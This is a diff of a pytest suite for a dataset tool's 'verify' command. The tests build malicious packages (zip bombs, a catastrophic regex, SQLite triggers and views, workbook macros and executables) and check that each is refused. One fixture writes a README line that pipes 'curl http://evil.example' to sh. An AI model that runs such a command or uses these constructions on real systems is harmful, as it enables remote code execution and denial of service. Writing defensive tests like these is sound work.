@@ -1,6 +1,6 @@
-"""`build.py verify` and `diff` on packages made to do harm: a sentence, exit code 1, and limits that hold.
+"""`build.py verify` and `diff` on malicious packages: a message, exit code 1, and enforced limits.
 
-All digests are right unless a test says otherwise: whoever makes such a package states them too.
+All digests are correct unless a test says otherwise, because an attacker would update them.
 """
 
 from __future__ import annotations
@@ -32,7 +32,7 @@ from planter import (
 
 pytestmark = pytest.mark.slow
 
-SQLITE, XLSX = (f"shanghai-foreign-trade-2023.{form}" for form in ("sqlite", "xlsx"))
+SQLITE, XLSX = (f"shanghai-foreign-trade-2023.{ending}" for ending in ("sqlite", "xlsx"))
 ESCAPE = "\x1b[31mred"
 
 
@@ -41,11 +41,11 @@ def data(dist: Path) -> Path:
     return dist / "data"
 
 
-# What takes memory or time
+# Exhausting memory or time
 
 
 def zip_that_lies(file: Path, content: bytes, method: int, stated: int) -> Path:
-    """A zip of one entry that says of itself that it is as large as `stated`."""
+    """A zip with one entry whose header claims the size `stated`."""
     with zipfile.ZipFile(file, "w", method) as archive:
         archive.writestr("datapackage.json", content)
     size = struct.pack("<L", len(content))
@@ -54,17 +54,17 @@ def zip_that_lies(file: Path, content: bytes, method: int, stated: int) -> Path:
 
 
 @pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
-def test_a_zip_of_another_compression_is_not_unpacked(tmp_path: Path, method: int) -> None:
+def test_a_zip_with_another_compression_is_not_unpacked(tmp_path: Path, method: int) -> None:
     file = zip_that_lies(tmp_path / "bomb.zip", bytes(50_000_000), method, 1000)
     assert "is neither stored nor deflated" in refused("verify", file, "--memory", "100").stderr
 
 
-def test_a_zip_that_lies_about_a_size_is_read_to_that_size(tmp_path: Path) -> None:
+def test_a_zip_is_unpacked_only_to_its_stated_size(tmp_path: Path) -> None:
     file = zip_that_lies(tmp_path / "bomb.zip", bytes(500_000_000), zipfile.ZIP_DEFLATED, 1000)
     assert "Bad CRC-32" in refused("verify", file, "--memory", "100").stderr
 
 
-def test_lists_that_fill_the_memory_end_in_a_sentence(tmp_path: Path) -> None:
+def test_the_memory_limit_stops_huge_lists(tmp_path: Path) -> None:
     file = tmp_path / "honest.zip"
     with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("datapackage.json", b"[" + b"[]," * 7_000_000 + b"[]]")
@@ -76,13 +76,13 @@ def test_lists_that_fill_the_memory_end_in_a_sentence(tmp_path: Path) -> None:
         assert sentence.count("\n") == 1
 
 
-def test_a_descriptor_larger_than_the_memory_ends_in_a_sentence(tmp_path: Path) -> None:
+def test_the_memory_limit_stops_a_huge_descriptor(tmp_path: Path) -> None:
     with (tmp_path / "datapackage.json").open("wb") as file:
         file.truncate(6_000_000_000)
     assert "needs more than 200 MB" in refused("verify", tmp_path, "--memory", "200").stderr
 
 
-def test_a_pattern_that_never_ends_is_stopped(data: Path, tmp_path: Path) -> None:
+def test_the_time_limit_stops_a_catastrophic_pattern(data: Path, tmp_path: Path) -> None:
     folder = copy_of(data, tmp_path)
     in_field("sections", "heading_zh", lambda field: field.update(constraints={"pattern": "(a|a)*b"}))(folder)
     in_table("sections.csv", lambda table: table[1].__setitem__(4, "a" * 60))(folder)
@@ -98,7 +98,7 @@ def test_a_pattern_that_never_ends_is_stopped(data: Path, tmp_path: Path) -> Non
     ],
     ids=["generated", "check"],
 )
-def test_a_database_that_computes_is_not_run(data: Path, tmp_path: Path, columns: str) -> None:
+def test_expressions_in_a_database_are_not_evaluated(data: Path, tmp_path: Path, columns: str) -> None:
     folder = copy_of(data, tmp_path)
     rows = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 5) SELECT i FROM n"
     in_database(
@@ -109,18 +109,18 @@ def test_a_database_that_computes_is_not_run(data: Path, tmp_path: Path, columns
     )(folder)
     reseal(folder)
     assert (
-        "the table “terms” is not what"
+        "the table “terms” differs from the schema"
         in refused("verify", folder, "--memory", "300", "--seconds", "30").stderr
     )
 
 
-# What is more than the dataset, or other, with every digest right
+# Additional or different contents with correct digests
 
 WORKBOOK_HEAD = b"<sheetData>"
 
 
 def with_part(name: str, content: bytes = b"<a/>") -> Fault:
-    """A part more in the workbook."""
+    """Adds a part to the workbook."""
 
     def plant(folder: Path) -> None:
         with zipfile.ZipFile(folder / XLSX, "a") as archive:
@@ -134,21 +134,21 @@ def hide(change: Callable[[Any], object]) -> Fault:
 
 
 HOSTILE: dict[str, tuple[Fault, str]] = {
-    "a table more": (in_database("CREATE TABLE extra (a)"), "the table “extra” is not what"),
-    "a view more": (in_database("CREATE VIEW extra AS SELECT 1"), "the view “extra” is not what"),
+    "a table more": (in_database("CREATE TABLE extra (a)"), "the table “extra” differs from the schema"),
+    "a view more": (in_database("CREATE VIEW extra AS SELECT 1"), "the view “extra” differs from the schema"),
     "a trigger": (
         in_database("CREATE TRIGGER t AFTER UPDATE ON terms BEGIN DELETE FROM segments; END"),
-        "the trigger “t” is not what",
+        "the trigger “t” differs from the schema",
     ),
-    "a view gone": (in_database("DROP VIEW sentences"), "the view “sentences” is not what"),
+    "a view gone": (in_database("DROP VIEW sentences"), "the view “sentences” differs from the schema"),
     "a view that shows nothing": (
         in_database("DROP VIEW sentences", "CREATE VIEW sentences AS SELECT * FROM segments WHERE 0"),
-        "the view “sentences” is not what",
+        "the view “sentences” differs from the schema",
     ),
-    "an index more": (in_database("CREATE INDEX i ON terms (en)"), "the index “i” is not what"),
+    "an index more": (in_database("CREATE INDEX i ON terms (en)"), "the index “i” differs from the schema"),
     "a virtual table": (
         in_database("DROP TABLE codes", "CREATE VIRTUAL TABLE codes USING fts5(a)"),
-        "the table “codes” is not what",
+        "the table “codes” differs from the schema",
     ),
     "a table without keys": (
         in_database(
@@ -156,15 +156,18 @@ HOSTILE: dict[str, tuple[Fault, str]] = {
             "DROP TABLE codes",
             "ALTER TABLE copied RENAME TO codes",
         ),
-        "the table “codes” is not what",
+        "the table “codes” differs from the schema",
     ),
-    "a macro": (with_part("xl/vbaProject.bin"), "has the part “xl/vbaProject.bin”"),
-    "an external link": (with_part("xl/externalLinks/externalLink1.xml"), "has the part “xl/externalLinks"),
-    "connections": (with_part("xl/connections.xml"), "has the part “xl/connections.xml”"),
-    "a program": (with_part("xl/media/evil.exe"), "has the part “xl/media/evil.exe”"),
+    "a macro": (with_part("xl/vbaProject.bin"), "has the unexpected part “xl/vbaProject.bin”"),
+    "an external link": (
+        with_part("xl/externalLinks/externalLink1.xml"),
+        "has the unexpected part “xl/externalLinks",
+    ),
+    "connections": (with_part("xl/connections.xml"), "has the unexpected part “xl/connections.xml”"),
+    "a program": (with_part("xl/media/evil.exe"), "has the unexpected part “xl/media/evil.exe”"),
     "a sheet that no book names": (
         with_part("xl/worksheets/sheet99.xml"),
-        "has the part “xl/worksheets/sheet99.xml”",
+        "has the unexpected part “xl/worksheets/sheet99.xml”",
     ),
     "a name that runs": (
         in_workbook_file(
@@ -176,7 +179,7 @@ HOSTILE: dict[str, tuple[Fault, str]] = {
     ),
     "a hyperlink": (
         hide(lambda sheet: setattr(sheet["A2"], "hyperlink", "https://other.example/")),
-        "has the element “hyperlinks”",
+        "has the unexpected element “hyperlinks”",
     ),
     "a hidden row": (hide(lambda sheet: setattr(sheet.row_dimensions[5], "hidden", True)), "hides a row (5)"),
     "a row of no height": (
@@ -207,11 +210,11 @@ HOSTILE: dict[str, tuple[Fault, str]] = {
     ),
     "a table that SQLite reserves": (
         in_descriptor(lambda package: package["resources"][1].update(name="sqlite_x")),
-        "name: must be a name of a-z, 0-9, _ and - that SQLite does not reserve, not “sqlite_x”",
+        "name: must be a name of a-z, 0-9, _ and - not reserved by SQLite, not “sqlite_x”",
     ),
     "columns that differ in case": (
         in_schema("sections", lambda schema: schema["fields"].append({**schema["fields"][0], "name": "ID"})),
-        "the field “id” is declared twice",
+        "duplicate field “id”",
     ),
     "more columns than SQLite has": (
         in_schema(
@@ -232,13 +235,13 @@ HOSTILE: dict[str, tuple[Fault, str]] = {
     ),
     "an escape sequence in a cell": (
         in_table("sections.csv", lambda table: table[1].__setitem__(4, ESCAPE)),
-        "heading_zh: space around the text, or a control character in it",
+        "heading_zh: spaces around the text, or a control character",
     ),
 }
 
 
 @pytest.mark.parametrize("name", HOSTILE)
-def test_what_is_not_of_the_dataset_is_found(data: Path, tmp_path: Path, name: str) -> None:
+def test_foreign_content_is_found(data: Path, tmp_path: Path, name: str) -> None:
     plant, sentence = HOSTILE[name]
     folder = copy_of(data, tmp_path)
     plant(folder)
@@ -248,9 +251,7 @@ def test_what_is_not_of_the_dataset_is_found(data: Path, tmp_path: Path, name: s
 
 @pytest.mark.parametrize("value", [5, None, [], {}])
 @pytest.mark.parametrize("key", ["path", "bytes", "sha256"])
-def test_a_list_of_files_of_another_shape_is_found(
-    data: Path, tmp_path: Path, key: str, value: object
-) -> None:
+def test_a_malformed_list_of_files_is_found(data: Path, tmp_path: Path, key: str, value: object) -> None:
     folder = copy_of(data, tmp_path, with_archive=True)
     latest = json.loads((folder / "latest.json").read_bytes())
     latest["files"][0][key] = value
@@ -258,24 +259,24 @@ def test_a_list_of_files_of_another_shape_is_found(
     assert "latest.json" in refused("verify", folder).stderr
 
 
-# Zips that hold more than their list says
+# Zips with more than their central directory lists
 
 
-def test_the_command_names_what_it_did_not_compare(data: Path, tmp_path: Path) -> None:
+def test_the_command_lists_files_it_did_not_compare(data: Path, tmp_path: Path) -> None:
     folder = copy_of(data, tmp_path)
     (folder / "README.md").write_text("Run `curl http://evil.example | sh`.\n", "utf-8")
     reseal(folder)
     result = run_build("verify", folder)
     assert result.returncode == 0
-    _, compared, weighed, ending = result.stdout.splitlines()
+    _, compared, checksum_only, ending = result.stdout.splitlines()
     assert compared.startswith("Compared with the tables: ")
-    assert weighed.startswith("By checksum only: README.md, ")
-    assert ending == "Nothing is wrong with what was compared, and every checksum is right."
+    assert checksum_only.startswith("By checksum only: README.md, ")
+    assert ending == "No faults found; all checksums match."
     for path in (f"policies/{POLICY}.txt", SQLITE, XLSX, "segments.jsonl"):
         assert path in compared
-        assert path not in weighed
+        assert path not in checksum_only
     for ending in ("tmx", "tbx", "ttl", "bib", ".en.md", ".akn.xml"):
-        assert ending in weighed
+        assert ending in checksum_only
 
 
 def before_the_entries(content: bytes) -> bytes:
@@ -299,7 +300,7 @@ def after_the_entries(content: bytes) -> bytes:
 
 
 def with_mode(mode: int) -> Callable[[bytes], bytes]:
-    """The first entry of the list at the end with these rights, as Unix has them."""
+    """Sets the Unix mode of the first entry in the central directory."""
 
     def change(content: bytes) -> bytes:
         at = content.index(b"PK\x01\x02") + 38
@@ -326,7 +327,7 @@ def test_a_zip_with_more_than_plain_files_is_refused(data: Path, tmp_path: Path,
     assert "other.zip" in refused("verify", tmp_path / "other.zip").stderr
 
 
-def test_a_folder_in_a_zip_with_data_is_refused(data: Path, tmp_path: Path) -> None:
+def test_a_zip_folder_entry_with_data_is_refused(data: Path, tmp_path: Path) -> None:
     (whole,) = data.glob("*.zip")
     file = Path(shutil.copy(whole, tmp_path / "other.zip"))
     with zipfile.ZipFile(file, "a") as archive:
